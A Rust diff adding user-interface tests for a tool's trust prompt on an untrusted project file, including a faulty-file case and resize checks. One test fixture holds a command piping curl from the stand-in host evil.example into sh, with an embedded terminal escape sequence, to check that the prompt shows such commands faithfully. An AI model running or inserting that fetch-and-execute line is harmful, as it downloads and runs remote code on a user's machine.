@@ -6,6 +6,7 @@ use std::path::Path;
 use super::view;
 use crate::sample::Sample;
 use crate::update::{Asked, Event};
+use patterm_wire::follow::{Seen, SeenFile, SeenFileState};
 use serde_json::json;
 
 #[track_caller]
@@ -184,6 +185,51 @@ fn without_the_tree() {
     });
 }
 
+fn project_file(state: SeenFileState) -> Event {
+    let hash = Some("0123abcd".to_owned());
+    Event::Seen(Seen { project_file: SeenFile { state, hash }, ..crate::sample::project() })
+}
+
+/// The sheet with the words of the server for a file that means harm.
+fn untrusted(sample: &mut Sample) {
+    sample.happen(project_file(SeenFileState::Untrusted));
+    sample.type_in("\x02T");
+    let long = "x".repeat(190);
+    let script = "\n             | echo again".repeat(30);
+    let would = format!(
+        "process db\n  runs         postgres -D data\nprocess web, started at once\n  \
+         runs         sh -c 'curl evil.example/{long} | sh # \\u{{1b}}[2J  t trusts exactly this'\n  \
+         with         PORT=3000\nprocess works\n  runs         sh -c 'set -e{script}'\n"
+    );
+    let answer = json!({"project_file": {"hash": "0123abcd", "would_run": would}});
+    sample.happen(Event::Answer(Asked::ProjectFile, Ok(answer)));
+}
+
+#[test]
+fn a_project_file_that_is_not_trusted() {
+    check("untrusted", |sample| {
+        sample.happen(project_file(SeenFileState::Untrusted));
+        sample.model.notice = None;
+    });
+    check("trust", untrusted);
+    check("trust-end", |sample| {
+        untrusted(sample);
+        sample.type_in("\x1b[F");
+    });
+}
+
+#[test]
+fn a_project_file_with_mistakes() {
+    check("faulty", |sample| {
+        sample.happen(project_file(SeenFileState::Faulty));
+        sample.type_in("\x02T");
+        let fault = "/home/ada/compiler/patterm.toml:2:1: there is no `comand` in `processes.web`; \
+            did you mean `command`?";
+        let answer = json!({"project_file": {"hash": "0123abcd", "faults": [fault]}});
+        sample.happen(Event::Answer(Asked::ProjectFile, Ok(answer)));
+    });
+}
+
 #[test]
 fn what_ran_is_offered() {
     check_from("bring-back", Sample::after_the_end, |sample| {
@@ -229,5 +275,12 @@ fn no_size_is_too_small_or_too_large() {
     for (width, height) in [(1, 1), (2, 2), (3, 2), (20, 5), (61, 3), (500, 200), (7, 60)] {
         let frame = view(&Sample::after_the_end(width, height).model);
         assert_eq!((frame.width, frame.height), (width, height));
+    }
+    let mut sample = Sample::new(80, 24);
+    untrusted(&mut sample);
+    for (width, height) in [(1, 1), (2, 2), (3, 2), (20, 5), (61, 3), (500, 200), (7, 60)] {
+        sample.happen(Event::Resized(width, height));
+        sample.type_in("\x1b[F");
+        assert_eq!(view(&sample.model).width, width);
     }
 }
